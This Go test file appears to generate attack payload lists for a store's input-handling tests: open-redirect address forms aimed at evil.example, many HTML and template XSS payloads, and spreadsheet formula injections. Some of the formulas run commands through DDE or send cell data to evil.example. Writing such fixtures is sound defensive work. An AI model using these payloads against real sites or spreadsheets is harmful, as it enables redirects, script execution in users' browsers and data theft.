package storetest

import (
	"fmt"
	"strings"
)

// Elsewhere are ways to write another site's address, known from redirects that
// were fooled by them.
func Elsewhere() (all []string) {
	hosts := []string{"evil.example", "irm.example.evil.example", "evil.example:443", "evil%E3%80%82example", "[::ffff:7f00:1]"}
	forms := []string{"//H", "///H", "////H", "/\\H", "\\\\H", "\\/H", "/\\/H", "\\/\\/H", "/\t/H", "/%09/H", "/\n/H", "/%0a/H", "/\r/H", "/%0d/H", "/%5cH", "/%5c%5cH", "/%2f%2fH", "/%2fH",
		"https://H", "http://H", "HTTPS://H", "https:H", "https:/H", "https:\\\\H", "https:///H", "ht\ttps://H", " https://H", "\x00//H", "%00//H", "\u2028//H", "//user@H", "//irm.example@H", "//irm.example%40H",
		"https://irm.example@H", "https://irm.example\\@H", "https://irm.example%23@H", "/.//H", "/..//H", "/a/..//H", "/a/../\\H", "/;@H", "/.H", "@H", ":@H", "?next=//H", "#//H",
		"javascript:alert(1)//H", "JaVaScRiPt:alert(1)//H", "java\nscript:alert(1)//H", "data:text/html,<script>alert(1)</script>H", "vbscript:H", "file://H/etc", "ftp://H", "blob:https://H/x",
		"//H/%2e%2e", "//H?/", "//H#/", "〱H", "//Ｈ@H", "///\\;@H"}
	for _, h := range hosts {
		for _, f := range forms {
			all = append(all, strings.ReplaceAll(f, "H", h))
		}
	}
	return all
}

// Scripts are texts that run a script, which sets window.pwned, where a page does
// not encode what it shows.
func Scripts() (all []string) {
	const run = "window.pwned=1"
	tags := []string{"img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "details open", "iframe src=x", "object data=x", "marquee", "select autofocus", "textarea autofocus", "style", "link rel=stylesheet href=x"}
	handlers := []string{"onerror", "onload", "onfocus", "ontoggle", "onstart", "onmouseover", "onanimationstart"}
	for _, tag := range tags {
		for _, on := range handlers {
			all = append(all, fmt.Sprintf("<%s %s=%s>", tag, on, run))
		}
	}
	inner := []string{"<script>" + run + "</script>", "<ScRiPt>" + run + "</sCrIpT>", "<script src=data:text/javascript," + run + "></script>", "<a href=javascript:" + run + ">x</a>",
		"<iframe srcdoc=\"<script>parent." + run + "</script>\">", "<math><mi xlink:href=javascript:" + run + ">", "<base href=//evil.example>", "<meta http-equiv=refresh content=0;url=javascript:" + run + ">",
		"<form action=javascript:" + run + "><button autofocus>x", "<img src=x onerror=&#119;indow.pwned=1>", "{{constructor.constructor('" + run + "')()}}", "${" + run + "}", "<div hx-on:load=" + run + " hx-get=/ hx-trigger=load>x</div>"}
	before := []string{"", "\">", "'>", "</title>", "</textarea>", "</script>", "--><!-- -->", "</style>", "<!--<img src=\"-->"}
	for _, b := range before {
		for _, i := range inner {
			all = append(all, b+i)
		}
	}
	return all
}

// Formulas are texts that spreadsheets take for formulas.
func Formulas() (all []string) {
	bodies := []string{"1+1", "SUM(A1:A9)", "cmd|'/C calc'!A0", "HYPERLINK(\"http://evil.example?\"&A1,\"x\")", "IMPORTXML(\"http://evil.example\",\"//a\")", "WEBSERVICE(\"http://evil.example\")",
		"2+5+cmd|'/C calc'!A0", "MSEXCEL|'\\..\\calc'!x", "rundll32|'URL.dll,OpenURL calc.exe'!A", "A1"}
	for _, begin := range []string{"=", "+", "-", "@", "\t=", "＝", "＋", "－", "＠", "=\"", "@SUM(1)*", "+-="} {
		for _, body := range bodies {
			all = append(all, begin+body)
		}
	}
	return all
}
